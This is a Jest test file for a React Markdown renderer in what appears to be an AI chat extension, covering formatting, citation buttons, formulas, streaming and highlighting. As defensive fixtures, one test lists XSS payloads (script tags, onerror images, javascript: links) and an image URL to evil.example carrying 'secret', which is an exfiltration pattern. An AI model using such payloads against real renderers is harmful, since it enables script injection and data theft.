import * as React from 'react';
import { renderToStaticMarkup } from 'react-dom/server';

import type { IDrawing } from '../../src/components/markdown';
import { Markdown } from '../../src/components/markdown';
import { patternOf } from '../../src/text/doubts';
import { Blocks } from '../../src/text/markdown';

const drawing: IDrawing = {
  code: (text, language) => <pre data-language={language}>{text}</pre>,
  marker: number => <button>{number}</button>,
  formula: (tex, isDisplayed) => (isDisplayed ? <b>{tex}</b> : <i>{tex}</i>),
  doubtful: null
};

const shown = (text: string): string =>
  renderToStaticMarkup(<Markdown text={text} drawing={drawing} />);

test('what chat models write is drawn', () => {
  const html = shown(
    '# Title\n\nA **bold** *word* and `code`.\n\n- one\n- two\n\n1. a\n\n> q\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```py\nx = 1\n```\n'
  );
  for (const part of [
    'role="heading"',
    '<strong>bold</strong>',
    '<em>word</em>',
    '<code>code</code>',
    '<li>one</li>',
    '<ol start="1">',
    '<blockquote>',
    '<td>2</td>',
    '<pre data-language="py">x = 1</pre>'
  ]) {
    expect(html).toContain(part);
  }
});

test('markers become buttons, in lists and emphasis too', () => {
  expect(shown('So [1][2].').match(/<button>/g)).toHaveLength(2);
  expect(shown('- **x [3]**')).toContain('<button>3</button>');
  expect(shown('`a[1]`')).not.toContain('<button>');
});

test.each([
  '<img src=x onerror=alert(1)>',
  'a <script>alert(1)</script> b',
  '![x](https://evil.example/?q=secret)',
  '![x][1]\n\n[1]: https://evil.example/y.png',
  '<button data-commandlinker-command="x">go</button>',
  '<iframe src="https://evil.example"></iframe>',
  '<style>@import url(https://evil.example)</style>',
  '[x](javascript:alert(1))',
  '[x](data:text/html,hi)',
  '[x](vbscript:x)',
  '[x](\u0001javascript:alert(1))',
  '$$\\href{javascript:alert(1)}{x}$$',
  '&lt;img src=x onerror=alert(1)&gt;'
])('%s does nothing', text => {
  const html = shown(text);
  expect(html).not.toMatch(
    /<(img|script|iframe|style|a|link|object|svg|button\s)\b/i
  );
  expect(html).not.toMatch(
    /\b(src|href|style|srcset|data-commandlinker-command)="/i
  );
});

test('a definition of the model makes no link of a marker', () => {
  const html = shown('See [1].\n\n[1]: https://evil.example');
  expect(html).toContain('<button>1</button>');
});

test('a link says where it leads and has no address that a browser would look up', () => {
  const html = shown('[our site](https://evil.example/path?q=1)');
  expect(html).toContain('(evil.example)');
  expect(html).toContain('role="link"');
  expect(html).not.toContain('href');
});

test('similar letters stay distinct', () => {
  expect(shown('[x](https://аpple.com)')).toContain('xn--');
});

test('a growing text keeps the blocks that are over', () => {
  const blocks = new Blocks();
  const first = blocks.read('one\n\ntwo\n\nthr');
  const second = blocks.read('one\n\ntwo\n\nthree\n\n- a');
  expect(second).toHaveLength(4);
  expect(second[0]).toBe(first[0]);
  expect(second[1]).toBe(first[1]);
  expect(second.map(({ token }) => token.raw.trim())).toEqual([
    'one',
    'two',
    'three',
    '- a'
  ]);
});

test.each(['list', 'code', 'quote', 'plain'])(
  'a text that grows letter by letter is read like the whole: %s',
  kind => {
    const texts: Record<string, string> = {
      list: 'Intro\n\n- a\n- b\n\n  more\n- c\n\nEnd\n',
      code: 'Intro\n\n```py\na = 1\n\nb = 2\n```\n\nEnd **x**\n',
      quote: '> a\n> b\n\nc\n===\n\n| a |\n|---|\n| 1 |\n',
      plain: 'a\nb\n\nc [1]\n\n    code\n\nd'
    };
    const text = texts[kind];
    const growing = new Blocks();
    for (let end = 1; end <= text.length; end++) {
      growing.read(text.slice(0, end));
    }
    const whole = new Blocks().read(text);
    expect(growing.read(text).map(({ token }) => token.raw.trim())).toEqual(
      whole.map(({ token }) => token.raw.trim())
    );
  }
);

test('another text is read from the start', () => {
  const blocks = new Blocks();
  blocks.read('one\n\ntwo');
  expect(blocks.read('three')).toHaveLength(1);
});

test('ten thousand lines in one paragraph are cut into blocks, with nothing lost', () => {
  const text = 'A line with **some** words [1].\n'.repeat(10_000);
  const read = new Blocks().read(text);
  expect(read.length).toBeGreaterThan(50);
  expect(read.map(({ token }) => token.raw).join('')).toBe(text);
});

test.each([
  ['So $E = mc^2$ holds.', '<i>E = mc^2</i>'],
  ['So \\(a_1 + b_2\\) and', '<i>a_1 + b_2</i>'],
  ['So \\\\(a^2\\\\).', '<i>a^2</i>'],
  ['$$\na\n- b\n$$', '<b>a\n- b</b>'],
  ['\\[\nx\n= y\n\\]', '<b>x\n= y</b>'],
  ['See $$x$$ here', '<b>x</b>']
])('%j has a formula', (text, html) => {
  expect(shown(text)).toContain(html);
});

test.each([
  'It costs $5 and $10.',
  'From $5-$10, or $ 7 $.',
  '`$x$`',
  'See \\[1\\] and \\[2, 3\\].'
])('%j has none', text => {
  expect(shown(text)).not.toMatch(/<[bi]>/);
});

test('a marker stays with the word before it and the stop behind it', () => {
  const html = shown('At twelve metres [1] [2]. Then');
  expect(html).toContain(
    '<span class="jp-LocalAI-together">metres <button>1</button> <button>2</button>.</span> Then'
  );
});

test('the words of no passage are marked, as wholes', () => {
  const doubtful = patternOf(['24', 'Gull (Rock)']);
  const html = renderToStaticMarkup(
    <Markdown
      text="The Gull (Rock) has 24 [1], not 241."
      drawing={{ ...drawing, doubtful }}
    />
  );
  expect(html.match(/<mark[^>]*>[^<]*<\/mark>/g)?.join()).toMatch(
    />Gull \(Rock\)<.*>24</
  );
  expect(html.match(/<mark/g)).toHaveLength(2);
});
